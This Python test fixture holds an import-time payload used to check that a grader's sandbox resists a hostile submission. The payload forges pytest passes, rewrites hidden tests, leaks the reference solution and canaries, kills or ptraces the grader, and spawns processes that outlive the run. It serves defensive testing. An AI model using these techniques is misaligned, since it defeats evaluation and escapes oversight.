"""An adversarial submission's payload: appended to the candidate's package, it runs at import
time in every candidate process the grader starts and tries to reach its own verdict.

Each attack appends one ``{"attack": ..., "result": ...}`` line to a report file (``@REPORT@``,
filled in by the test; pytest would swallow a print), so a test can show it was really
attempted and how it ended ("refused: <error>" or "done"). The grader must keep the verdict
the untouched baseline gets whatever this does.
"""

# Everything below is the payload's text (it must stand alone inside the candidate's module).
PAYLOAD = r'''

def _seal_attacks():
    import ctypes
    import gc
    import json
    import os
    import signal
    import subprocess
    import sys

    def report(name, result):
        with open("@REPORT@", "a") as fh:
            fh.write(json.dumps({"attack": name, "result": result, "pid": os.getpid()}) + "\n")

    def attempt(name, fn):
        try:
            result = fn()
            report(name, "done" if result is None else f"done: {result}")
        except BaseException as exc:  # noqa: BLE001
            report(name, f"refused: {type(exc).__name__}: {str(exc)[:120]}")

    def grader_args():
        """The grading process's --hidden/--out/--work, read from /proc (world-readable)."""
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            except OSError:
                continue
            if b"grading" in argv and b"--hidden" in argv:
                args = {a.decode(): argv[i + 1].decode() for i, a in enumerate(argv[:-1])
                        if a.startswith(b"--")}
                return int(pid), args
        raise LookupError("no grader process visible")

    def pytest_hook():
        # Any pytest in this process: every failed report becomes a pass.
        import pytest

        class Forge:
            @pytest.hookimpl(hookwrapper=True)
            def pytest_runtest_makereport(self, item, call):
                outcome = yield
                outcome.get_result().outcome = "passed"

        hits = 0
        for obj in gc.get_objects():
            if type(obj).__name__ == "Config" and hasattr(obj, "pluginmanager"):
                obj.pluginmanager.register(Forge())
                hits += 1
        if not hits:
            raise LookupError("no pytest config in this process")
        return f"{hits} pytest configs"

    def hidden_conftest():
        _, args = grader_args()
        path = os.path.join(args["--hidden"], "checks", "conftest.py")
        with open(path, "a") as fh:
            fh.write("\nimport pytest\n@pytest.hookimpl(hookwrapper=True)\n"
                     "def pytest_runtest_makereport(item, call):\n"
                     "    o = yield\n    o.get_result().outcome = 'passed'\n")

    def hidden_rewrite():
        _, args = grader_args()
        checks = os.path.join(args["--hidden"], "checks")
        for name in os.listdir(checks):
            if name.startswith("test_"):
                with open(os.path.join(checks, name), "w") as fh:
                    fh.write("def test_forged():\n    pass\n")

    def apply_reference():
        _, args = grader_args()
        patch = os.path.join(args["--hidden"], "reference", "solution.patch")
        data = open(patch, "rb").read()
        tree = os.environ.get("GRADING_WORKDIR") or os.getcwd()
        subprocess.run(["git", "apply", "-"], input=data, cwd=tree, check=True,
                       capture_output=True)

    def forge_grade():
        _, args = grader_args()
        from grading.models import GradeReport  # the grader's own code is importable

        fields = GradeReport.model_fields
        with open(os.path.join(args["--out"], "grade.json"), "w") as fh:
            fh.write(json.dumps({"verdict": "complete", "fields": sorted(fields)}))

    def kill_grader():
        pid, _ = grader_args()
        os.kill(pid, signal.SIGKILL)

    def linger():
        _, args = grader_args()
        target = os.path.join(args["--out"], "grade.json")
        code = ("import os, time\n"
                f"t = {target!r}\n"
                "for _ in range(6000):\n"
                "    if os.path.exists(t):\n"
                "        try:\n"
                "            open(t, 'w').write('{\"verdict\": \"complete\"}')\n"
                "        except OSError:\n"
                "            pass\n"
                "    time.sleep(0.1)\n")
        # A double fork into a new session with an empty environment.
        subprocess.Popen(["setsid", sys.executable, "-c", code], env={},
                         start_new_session=True, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)

    def sitecustomize():
        written = []
        for var in ("GRADING_WORKDIR", "GRADING_BASELINE", "GRADING_PROBES"):
            root = os.environ.get(var)
            if root:
                with open(os.path.join(root, "sitecustomize.py"), "w") as fh:
                    fh.write("import os\nos.environ['FORGED'] = '1'\n")
                written.append(var)
        if not written:
            raise LookupError("no graded tree named in the environment")
        return written

    def read_hidden():
        _, args = grader_args()
        hidden = args["--hidden"]
        leaked = []
        for rel in ("CANARY", "reference/solution.patch", "checks"):
            path = os.path.join(hidden, rel)
            if os.path.isdir(path):
                leaked.append(str(os.listdir(path)))
            else:
                leaked.append(open(path).read()[:80])
        print("SEAL-LEAK " + " | ".join(leaked), flush=True)

    def copy_hidden_out():
        _, args = grader_args()
        data = open(os.path.join(args["--hidden"], "CANARY")).read()
        with open(os.path.join(args["--out"], "leak.txt"), "w") as fh:
            fh.write(data)

    def judge_memory():
        pid, _ = grader_args()
        with open(f"/proc/{pid}/mem", "rb") as fh:
            fh.read(16)

    def judge_ptrace():
        pid, _ = grader_args()
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
            raise PermissionError(f"ptrace errno {ctypes.get_errno()}")

    def trail():
        # A note for later candidate processes in the shared writable folders: none may see
        # one left by an earlier run (its own children share the run's TMPDIR, and may).
        run = os.environ.get("TMPDIR", "?")
        seen = []
        for folder in ("/tmp", "/dev/shm"):
            note = os.path.join(folder, "seal-trail")
            if os.path.exists(note):
                seen += [r for r in open(note).read().split() if r != run]
            with open(note, "a") as fh:
                fh.write(f"{run} ")
        if seen:
            raise RuntimeError(f"TRAIL-SEEN {seen}")

    def ipc_trail():
        # The same note in System V shared memory, which no folder holds.
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
        libc.shmdt.argtypes = [ctypes.c_void_p]
        run = os.environ.get("TMPDIR", "?").encode()[:255]
        shmid = libc.shmget(0x5EA1, 256, 0o1666)  # IPC_CREAT | 0666
        if shmid < 0:
            raise OSError(ctypes.get_errno(), "shmget")
        addr = libc.shmat(shmid, None, 0)
        if addr is None or addr == ctypes.c_void_p(-1).value:
            raise OSError(ctypes.get_errno(), "shmat")
        seen = ctypes.string_at(addr, 256).rstrip(b"\0")
        ctypes.memmove(addr, run.ljust(256, b"\0"), 256)
        libc.shmdt(addr)
        if seen and seen != run:
            raise RuntimeError(f"IPC-TRAIL-SEEN {seen!r}")

    def ghost():
        # A process whose leader thread ends with the raw exit syscall while another thread
        # runs on: the leader shows Z, the process lives. None may outlive its run: later
        # processes look for one left by an earlier run (same uid: its environ is readable).
        import platform

        run = os.environ.get("TMPDIR", "?")
        seen = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                tasks = os.listdir(f"/proc/{pid}/task")
            except OSError:
                continue
            for tid in tasks:
                # Read through a live thread: an exited leader has no memory to read.
                try:
                    state = open(f"/proc/{pid}/task/{tid}/stat").read().rsplit(")", 1)[1].split()[0]
                    env = open(f"/proc/{pid}/task/{tid}/environ", "rb").read().split(b"\0")
                except (OSError, IndexError):
                    continue
                runs = [e.split(b"=", 1)[1].decode() for e in env if e.startswith(b"SEAL_GHOST=")]
                if state not in ("Z", "X") and runs and runs[0] != run:
                    seen.append(runs[0])
                    break
        exit_nr = {"x86_64": 60, "aarch64": 93}[platform.machine()]
        code = ("import ctypes, threading, time\n"
                "threading.Thread(target=time.sleep, args=(600,)).start()\n"
                "time.sleep(0.1)\n"
                f"ctypes.CDLL(None).syscall({exit_nr}, 0)\n")
        subprocess.Popen(["setsid", sys.executable, "-c", code], env={"SEAL_GHOST": run},
                         start_new_session=True, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
        if seen:
            raise RuntimeError(f"GHOST-SEEN {seen}")

    for name, fn in [("trail", trail), ("ipc-trail", ipc_trail), ("ghost", ghost),
                     ("pytest-hook", pytest_hook),
                     ("hidden-conftest", hidden_conftest),
                     ("hidden-rewrite", hidden_rewrite), ("apply-reference", apply_reference),
                     ("forge-grade", forge_grade), ("kill-grader", kill_grader),
                     ("linger", linger),
                     ("sitecustomize", sitecustomize), ("read-hidden", read_hidden),
                     ("copy-hidden-out", copy_hidden_out), ("judge-memory", judge_memory),
                     ("judge-ptrace", judge_ptrace)]:
        attempt(name, fn)


_seal_attacks()
'''
